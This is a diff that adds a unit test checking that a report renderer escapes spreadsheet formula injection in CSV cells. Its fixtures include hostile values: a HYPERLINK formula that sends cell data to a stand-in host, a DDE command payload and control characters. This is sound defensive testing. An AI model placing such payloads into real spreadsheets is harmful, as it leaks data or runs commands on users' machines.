@@ -219,3 +219,41 @@ def test_opt_outs_the_files_carry_are_shown_without_the_optout_stage(
         "XMP PLUS Data Mining (prohibits AI training)": rights["optout_iptc"],
         "XMP TDMRep reservation": rights["tdm_reservation_in_file"],
     }
+
+
+def test_csv_cells_are_text_in_a_spreadsheet() -> None:
+    """Sample ids went verbatim into report_ids.csv: ``=HYPERLINK(...)`` ran as a formula
+    when an analyst opened it, and a NUL or U+202E byte went with it."""
+    import csv
+    import io
+
+    from clipaudit.reports.render import _csv, csv_cell
+
+    hostile = [
+        '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+        "-2+3",
+        "\tx",
+        "id\x00with\u202enul",
+    ]
+    got = [csv_cell(v) for v in hostile]
+    assert got == [
+        '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+        "'+cmd|' /C calc'!A0",
+        "'@SUM(1+1)",
+        "'-2+3",
+        "'\tx",
+        "id⟨U+0000⟩with⟨U+202E⟩nul",
+    ]
+    # Numbers, negative ones included, stay numbers; plain ids are untouched.
+    assert [csv_cell(v) for v in ("-0.25", "+1e-3", "000123", 7, -1.5)] == [
+        "-0.25",
+        "+1e-3",
+        "000123",
+        7,
+        -1.5,
+    ]
+    text = _csv(["section", "reason", "id", "decision"], [(0, "low_alignment", hostile[0], "drop")])
+    (row,) = list(csv.reader(io.StringIO(text)))[1:]
+    assert row[2].startswith("'=") and row[3] == "drop"
